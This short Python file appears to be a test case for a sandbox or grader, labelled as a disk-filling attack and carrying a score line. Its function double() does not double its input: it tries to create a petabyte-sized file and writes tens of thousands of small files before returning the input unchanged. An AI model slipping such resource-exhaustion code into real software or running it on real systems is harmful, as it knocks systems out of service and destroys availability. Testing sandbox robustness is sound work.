# attack: fills the disk, with one file and with many
# points: double=0 total=4
# %% double
import os
def double(x):
    try:
        with open("huge", "wb") as file:
            file.truncate(1 << 50)
    except OSError:
        pass
    for number in range(50_000):
        try:
            with open(f"file{number}", "wb") as file:
                file.write(b"x" * 5000)
        except OSError:
            break
    return x
